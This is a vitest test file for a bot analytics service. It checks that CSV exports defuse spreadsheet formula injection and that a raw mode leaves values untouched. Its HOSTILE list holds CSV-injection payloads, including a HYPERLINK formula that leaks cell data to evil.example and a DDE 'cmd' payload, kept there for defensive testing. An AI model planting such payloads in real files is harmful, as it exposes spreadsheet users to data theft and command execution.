import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type BotApiServer, startBotApi } from '../../support/bot-api-server.ts';
import { hasEnded, launch, sendingBot, until } from '../../support/broadcasts.ts';
import { operate } from '../../support/operate.ts';
import { startTestService, type TestBot, type TestService } from '../../support/service.ts';

/** Names and texts that are formulas to a spreadsheet, in every CSV of the service (decisions.md#csv-formulas). */

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"Ada")',
  '+79991234567',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  "'=1+1",
];
const guarded = HOSTILE.map((text) => `'${text}`);
/** Users 1 to n have the hostile names, the next one this. */
const USUAL = "O'Hara = 1";
const TEXTS = [...HOSTILE, USUAL];
const GUARDED = [...guarded, USUAL];

let platform: BotApiServer;
let service: TestService;
let bot: TestBot;
let folder: string;
let key: Record<string, string>;

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'botledger-'));
  platform = await startBotApi();
  service = await startTestService({ TELEGRAM_API_ROOT: platform.root });
  bot = await sendingBot(service);
  key = { 'api-key': bot.apiKey };
  const updates = TEXTS.map((first_name, index) => {
    const from = { id: index + 1, is_bot: false, first_name };
    const chat = { id: from.id, type: 'private' };
    return { update: { update_id: index, message: { message_id: 1, date: SECONDS + index, chat, from, text: 'hi' } } };
  });
  expect((await service.post('/v1/send-batch-update', updates, key)).status).toBe(200);
  const events = TEXTS.map((category, index) => ({
    ...{ event: 'back', user_id: index + 1, category, value_num: -1.5, properties: { text: category, number: -7 } },
  }));
  expect((await service.post('/v1/send-event', events, key)).status).toBe(200);
  await service.projected();
});
afterAll(async () => {
  await service?.stop();
  await platform?.close();
  await rm(folder, { recursive: true });
});
const SECONDS = Math.floor(Date.now() / 1000) - 3600;

type Records = Readonly<Record<string, string>>[];
const records = (text: string): Records => parse(text, { columns: true, record_delimiter: '\n' });
const column = (rows: Records, name: string): (string | undefined)[] => rows.map((row) => row[name]);

async function csv(path: string, body?: object): Promise<Records> {
  const headers = { ...key, 'content-type': 'application/json' };
  const init = body === undefined ? { headers } : { method: 'POST', headers, body: JSON.stringify(body) };
  const answer = await fetch(service.address + path, init);
  if (answer.status !== 200) throw new Error(`${answer.status}: ${await answer.text()}`);
  expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8');
  return records(await answer.text());
}

describe.each([
  { kind: 'default', raw: false, texts: GUARDED },
  { kind: 'raw', raw: true, texts: TEXTS },
])('$kind CSV', ({ raw, texts }) => {
  const asked = raw ? '&raw=true' : '';

  it('has the names of users and the texts of events in exports over HTTP', async () => {
    const users = await csv(`/v1/export/users?format=csv${asked}`);
    expect(column(users, 'first_name')).toEqual(texts);
    const events = (await csv(`/v1/export/events?format=csv${asked}`)).filter(
      ({ event_name }) => event_name === 'back',
    );
    expect(column(events, 'category')).toEqual(texts);
    expect(column(events, 'value_amount')).toEqual(texts.map(() => '-1.5'));
    expect(events.map(({ properties }) => JSON.parse(properties!))).toEqual(
      TEXTS.map((text) => ({ text, number: -7 })),
    );
  });

  it('has them in exports of the command line', async () => {
    const file = join(folder, 'users.csv');
    const options = ['--bot', bot.publicKey, '--format', 'csv', '--output', file, ...(raw ? ['--raw'] : [])];
    await operate(service.env, ['export', 'users', ...options]);
    expect(column(records(await readFile(file, 'utf8')), 'first_name')).toEqual(texts);
  });

  it('has them in breakdowns, lists and headers of reports', async () => {
    const label = raw ? HOSTILE[0]! : guarded[0]!;
    const metric = { type: 'trend', event_id: null, event_name: 'back', label: HOSTILE[0] };
    const sum = { ...metric, agr: 'property_sum', agr_field: 'events.value_amount' };
    const separators = [{ property: 'events.category' }, { property: 'events.properties.number' }];
    const run = (source_request: object): Promise<Records> => {
      const params = { ':date_from': '2020-01-01 00:00:00', ':date_to': '2099-01-01 00:00:00' };
      const report_config = { source_request, settings: { params } };
      return csv('/v1/reports/run', { report_config, format: 'csv', ...(raw ? { raw } : {}) });
    };
    const requests = [{ ...metric, agr: 'total' }];
    const messages = ['(none)', String(TEXTS.length)];
    const table = await run({ type: 'trends', type_chart: 'table', requests, separators });
    const cells = table.map((row) => Object.values(row));
    expect(new Set(cells.flat())).toEqual(new Set(['0', label, '-7', 'false', '1', ...texts, ...messages]));
    const chart = await run({ type: 'trends', type_chart: 'line', granularity: 'month', requests: [sum] });
    expect(Object.keys(chart[0]!)).toEqual(['Date', label]);
    expect(column(chart, label)).toContain('-13.5');
    const columns = ['user.first_name'];
    const list = await run({ type: 'list', type_chart: 'list', table: 'events', columns, limit: 100 });
    expect(new Set(list.flatMap((row) => Object.values(row)))).toEqual(new Set(texts));
  });

  it("has the platform's words in recipients, and negative chat ids", async () => {
    platform.behave(({ chatId }) =>
      chatId > 0 ? { error: { code: 403, description: HOSTILE[chatId - 1]! } } : undefined,
    );
    const chats = [-1001, ...HOSTILE.map((_, index) => index + 1)];
    const id = await launch(service, bot, { chats });
    await until(service, id, hasEnded);
    await service.projected();
    const recipients = await csv(`/v1/broadcast/recipients?id=${id}&format=csv${asked}`);
    expect(column(recipients, 'chat_id')).toEqual(chats.map(String));
    expect(column(recipients, 'reason').slice(1)).toEqual(raw ? HOSTILE : guarded);
    const exported = await csv(`/v1/export/recipients?format=csv${asked}`);
    expect(
      column(
        exported.filter(({ state }) => state === 'not_delivered'),
        'reason',
      ),
    ).toEqual(expect.arrayContaining(raw ? HOSTILE : guarded));
  });
});

it('imports the users of a default export as they were', async () => {
  const file = join(folder, 'exported.csv');
  const copy = await service.createBot();
  const named = async (publicKey: string): Promise<unknown> => {
    const output = join(folder, 'raw.csv');
    await operate(service.env, ['export', 'users', '--bot', publicKey, '--format', 'csv', '--raw', '--output', output]);
    return records(await readFile(output, 'utf8')).map(({ user_id, first_name }) => [user_id, first_name]);
  };
  await operate(service.env, ['export', 'users', '--bot', bot.publicKey, '--format', 'csv', '--output', file]);
  await operate(service.env, ['user', 'import', '--bot', copy.publicKey, file]);
  await service.projected();
  expect(await named(copy.publicKey)).toEqual(TEXTS.map((text, index) => [String(index + 1), text]));
});

it.each(['/v1/export/users?format=csv&raw=1', '/v1/broadcast/recipients?id=1&raw=yes'])('refuses %s', async (path) => {
  expect(await service.get(path, key)).toMatchObject({ status: 400 });
});

it('refuses a raw of a report that is no boolean', async () => {
  const body = { uuid: '00000000-0000-4000-8000-000000000000', format: 'csv', raw: 'true' };
  expect(await service.post('/v1/reports/run', body, key)).toMatchObject({
    status: 400,
    body: { details: [{ path: 'raw', message: 'expected true or false' }] },
  });
});
